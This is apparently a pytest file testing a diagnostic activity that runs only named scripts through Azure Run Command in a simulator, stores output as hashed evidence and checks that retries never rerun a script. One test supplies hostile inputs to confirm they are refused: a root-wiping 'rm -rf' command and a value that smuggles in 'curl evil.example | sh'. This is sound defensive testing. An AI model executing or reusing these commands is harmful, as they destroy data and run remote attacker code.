"""run_diagnostic with the real SDK client against azuresim's Run Command:
only named scripts run, the output is kept as evidence once per step, and a
retry (a second call, or Temporal's own after a fault) never runs it again."""

from __future__ import annotations

import hashlib
import json
import tempfile
import uuid
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
from azure.mgmt.compute.models import RunCommandInput
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment
from temporalio.worker import Worker

from stanch.activities.azure_errors import CONFLICT, INVALID_REQUEST
from stanch.activities.run_command import RUN_COMMAND_BUSY, RunCommandActivities
from stanch.azuresim.faults import Fault
from stanch.models.run_command import DIAGNOSTIC_SCRIPTS, DiagnosticRequest
from stanch.models.settings import Settings
from stanch.stores.evidence import EvidenceStore
from stanch.testing.estate import VM1, VM2, VMSS
from stanch.worker import azure_activities
from tests.support.azure_probe import AzureProbe, ProbeInput, ProbeResult

env = ActivityEnvironment


def run_commands(sim: Any) -> list[dict[str, Any]]:
    return [c for c in sim.journal.calls() if c["path"].lower().endswith("/runcommand")]


def kept(location: str) -> bytes:
    return Path(urlparse(location).path).read_bytes()


async def test_output_is_kept_as_evidence_and_a_retry_returns_it_without_running_again(
    sim, azure, tmp_path
):
    diagnostics = RunCommandActivities(azure, EvidenceStore(tmp_path / "evidence"))
    request = DiagnosticRequest(incident_id="inc-1", resource_id=VM1, script="linux-connections")
    first = await env().run(diagnostics.run_diagnostic, request)
    stored = kept(first.location)
    assert hashlib.sha256(stored).hexdigest() == first.sha256 and first.size == len(stored)
    bundle = json.loads(stored)
    assert bundle["script"] == "linux-connections" and bundle["command_id"] == "RunShellScript"
    assert bundle["lines"] == DIAGNOSTIC_SCRIPTS["linux-connections"].script
    (status,) = bundle["output"]
    assert status["code"] == "ProvisioningState/succeeded" == first.status
    assert "[stdout]" in status["message"] and "vm-web-1 would run: ss -tunap" in status["message"]
    (post,) = run_commands(sim)
    assert post["body"] == {"commandId": "RunShellScript", "script": bundle["lines"]}

    again = await env().run(diagnostics.run_diagnostic, request)
    assert again.reused and again.sha256 == first.sha256 and again.location == first.location
    assert len(run_commands(sim)) == 1, "the retry ran nothing"

    other_step = request.model_copy(update={"step": "after-block"})
    later = await env().run(diagnostics.run_diagnostic, other_step)
    assert not later.reused and later.location != first.location
    assert len(run_commands(sim)) == 2, "another step is another run"


@pytest.mark.parametrize(
    ("resource_id", "script", "why"),
    [
        (VM1, "rm -rf / --no-preserve-root", "not a diagnostic script stanch knows"),
        (VM1, "linux-connections; curl evil.example | sh", "not a diagnostic script"),
        (VMSS, "linux-connections", "runs on virtual machines"),
        ("not-an-id", "linux-connections", "not an ARM resource id"),
    ],
)
async def test_anything_but_a_named_script_on_a_vm_is_refused_before_azure(
    sim, azure, tmp_path, resource_id, script, why
):
    diagnostics = RunCommandActivities(azure, EvidenceStore(tmp_path / "evidence"))
    with pytest.raises(ApplicationError) as refused:
        await env().run(
            diagnostics.run_diagnostic,
            DiagnosticRequest(incident_id="inc-1", resource_id=resource_id, script=script),
        )
    assert refused.value.type == INVALID_REQUEST and refused.value.non_retryable
    assert why in str(refused.value)
    assert sim.journal.calls() == [] and not (tmp_path / "evidence").exists()


async def test_a_stopped_vm_is_refused_and_a_busy_one_is_waited_for(sim, azure, tmp_path):
    diagnostics = RunCommandActivities(azure, EvidenceStore(tmp_path / "evidence"))
    with sim.state.lock:
        sim.state.get(VM2).power_state = "deallocated"
    with pytest.raises(ApplicationError) as stopped:
        await env().run(
            diagnostics.run_diagnostic,
            DiagnosticRequest(incident_id="inc-1", resource_id=VM2, script="linux-disk"),
        )
    assert stopped.value.type == CONFLICT and stopped.value.non_retryable
    assert "OperationNotAllowed" in str(stopped.value)

    # Someone's command is still running on vm-web-1: Azure refuses a second.
    compute = azure.compute(VM1.split("/")[2]).virtual_machines
    await compute.begin_run_command(
        "rg-web", "vm-web-1", RunCommandInput(command_id="RunShellScript", script=["uptime"])
    )
    with pytest.raises(ApplicationError) as busy:
        await env().run(
            diagnostics.run_diagnostic,
            DiagnosticRequest(incident_id="inc-1", resource_id=VM1, script="linux-disk"),
        )
    assert busy.value.type == RUN_COMMAND_BUSY and not busy.value.non_retryable
    assert busy.value.next_retry_delay is not None
    assert not (tmp_path / "evidence").exists(), "no evidence from a run that did not happen"


async def test_windows_output_is_kept_with_both_streams(sim, azure, tmp_path):
    with sim.state.lock:
        sim.state.get(VM2).properties["storageProfile"] = {"osDisk": {"osType": "Windows"}}
    diagnostics = RunCommandActivities(azure, EvidenceStore(tmp_path / "evidence"))
    evidence = await env().run(
        diagnostics.run_diagnostic,
        DiagnosticRequest(incident_id="inc-1", resource_id=VM2, script="windows-processes"),
    )
    codes = [s["code"] for s in json.loads(kept(evidence.location))["output"]]
    assert codes == ["ComponentStatus/StdOut/succeeded", "ComponentStatus/StdErr/succeeded"]
    with pytest.raises(ApplicationError) as wrong_os:
        await env().run(
            diagnostics.run_diagnostic,
            DiagnosticRequest(incident_id="inc-1", resource_id=VM2, script="linux-disk"),
        )
    assert wrong_os.value.type == INVALID_REQUEST and "OS type" in str(wrong_os.value)


async def probe(dev_env, azure, state_dir: Path, arg: dict[str, Any]) -> ProbeResult:
    queue = f"probe-{uuid.uuid4()}"
    async with Worker(
        dev_env.client,
        task_queue=queue,
        workflows=[AzureProbe],
        activities=azure_activities(azure, Settings(state_dir=state_dir)),
    ):
        return await dev_env.client.execute_workflow(
            AzureProbe.run,
            ProbeInput(activity="run_diagnostic", arg=arg),
            id=f"probe-{uuid.uuid4()}",
            task_queue=queue,
        )


@pytest.mark.parametrize(
    "fault",
    [
        # Azure accepted the command; polling its operation then failed. The
        # retry resumes the operation from the heartbeated token.
        Fault(path="/operations/", method="GET", status=500, times=1),
        Fault(path="/operations/", method="GET", status=429, retry_after=0, times=1),
        # Refused before Azure ran anything: the retry runs it, once.
        Fault(path="/runCommand$", method="POST", status=503, times=1),
    ],
    ids=["poll-500", "poll-429", "post-503"],
)
async def test_temporal_retries_run_the_script_once(dev_env, sim, azure, fault):
    state_dir = Path(tempfile.mkdtemp())
    sim.faults.add(fault)
    request = DiagnosticRequest(incident_id="inc-9", resource_id=VM1, script="linux-processes")
    outcome = await probe(dev_env, azure, state_dir, request.model_dump())
    assert outcome.ok, outcome
    assert fault.id in {c["fault"] for c in sim.journal.calls()}, "the fault fired"
    ran = [c for c in run_commands(sim) if c["applied"] and c["status"] == 202]
    assert len(ran) == 1, run_commands(sim)
    assert outcome.result is not None and not outcome.result["reused"]
    stored = kept(outcome.result["location"])
    assert hashlib.sha256(stored).hexdigest() == outcome.result["sha256"]
    assert b"vm-web-1 would run: ps -eo" in stored
